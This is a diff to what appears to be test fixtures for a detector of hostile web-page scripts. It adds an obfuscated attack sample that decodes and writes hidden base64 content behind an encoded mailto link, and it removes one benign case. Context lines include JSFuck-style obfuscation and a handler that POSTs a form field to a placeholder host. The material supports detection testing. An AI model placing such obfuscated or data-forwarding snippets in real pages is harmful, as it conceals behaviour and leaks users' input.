@@ -80,6 +80,9 @@ ATTACKS = {
         "document.write(order.map(i=>atob(p[i])).join(''))",
         "",
     ),
+    "more than an address": page(
+        "document.write(unescape('%3Ca%20href%3D%22mailto%3Aa%40a.example%22%3Eus%3C%2Fa%3E')+atob(s))"
+    ),
     "six signs alone": page("(![]+[])[+[]]" * 80),
     "a form that a script sends on": page(
         "b.onclick=()=>fetch('https://a.example/p',{method:'POST',body:p.value})",
@@ -98,9 +101,6 @@ HONEST = {
     "a picture saved by the page": page(f"var b=atob(canvas.toDataURL().split(',')[1]);{DOWNLOAD}"),
     "a table saved by the page's own link": page(
         "a.href='data:text/csv;base64,YTtiCjE7Mg==';a.download='t.csv';a.click()", "<a id=a>Save</a>"
-    ),
-    "a diagram with its library": page(
-        f"var bdata='{'A' * 900}';var u=new Uint8Array(n);{DOWNLOAD};" + "function draw(a,b){return a+b};" * 12_000
     ),
     "an address that robots don't gather": page(
         "document.write(unescape('%3Ca%20href%3D%22mailto%3Ainfo%40a.example%22%3Eus%3C%2Fa%3E'))"
